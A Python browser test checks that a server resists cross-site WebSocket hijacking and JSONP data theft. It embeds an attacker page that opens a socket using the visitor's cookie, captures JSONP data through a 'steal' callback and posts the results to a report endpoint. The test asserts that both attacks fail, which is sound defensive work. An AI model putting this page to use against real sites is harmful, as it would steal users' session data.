"""Cross-site WebSocket hijacking and JSONP, tried from a real browser (PROTOCOL.md sections 3
and 9): headless Chromium signs up on the server's own page, which sets the session cookie,
then goes to another site's page, whose script opens a socket to the server and includes a
JSONP answer. The browser sends the cookie with both (the two origins are ports of one host,
so one site: SameSite does not stop it); the server must not let either use it."""

from __future__ import annotations

import uuid
from urllib.parse import urlencode

from toto.testing.server import ServerProcess

from tests.browser.pages import PageServer
from tests.browser.test_cors_browser import Chromium
from tests.conftest import BASIC_APP

OTHER_SITE = b"""<!doctype html><meta charset="utf-8"><title>another site</title><script type="module">
const api = new URLSearchParams(location.search).get("api");
const report = {page: "other"};
report.socket = await new Promise((resolve) => {
  const socket = new WebSocket(api.replace("http", "ws") + "/websocket");
  socket.onopen = () => socket.send(JSON.stringify({id: 1, method: "whoami", parameters: {}}));
  socket.onmessage = (e) => {
      const m = JSON.parse(e.data);
      resolve(m.result ? m.result.user_id : m.error);
      socket.close();
    };
  socket.onclose = (e) => resolve("closed " + e.code);
});
report.jsonp = null;
window.steal = (data) => { report.jsonp = data; };
await new Promise((resolve) => {
  const script = document.createElement("script");
  script.src = api + "/secret?jsonp=steal";
  script.onload = script.onerror = resolve;
  document.head.appendChild(script);
});
await fetch("/report", {method: "POST", body: JSON.stringify(report)});
window.close();
</script>"""


def test_another_sites_page_cannot_use_the_visitors_cookie() -> None:
    options = {
        "use_web_sockets": True,
        "use_cookies": True,
        "cookie_secret": "the browser test's cookie secret",
        "hmac_mode": "off",
        "database": "memory",
        "password_cost": 10,
        "logging": "warning",
    }
    other = PageServer(OTHER_SITE)
    browser = Chromium()
    user = "visitor-" + uuid.uuid4().hex[:8]
    try:
        with ServerProcess(options, cwd=BASIC_APP) as server:
            next_page = f"{other.origin}/?{urlencode({'api': server.url})}"
            query = urlencode({"user": user, "reports": f"{other.origin}/report", "next": next_page})
            browser.open(f"{server.url}/own_page?{query}")
            own = browser.wait_report(other.reports)
            assert own == {"page": "own", "created": user, "socket": user}, own
            seen = browser.wait_report(other.reports)
            assert seen["page"] == "other"
            assert seen["socket"] == "closed 1006", "another site's page used the visitor's cookie on a socket"
            assert seen["jsonp"] is None, "another site's page read the visitor's data through JSONP"
            assert "Traceback" not in server.output()
    finally:
        browser.close()
        other.close()
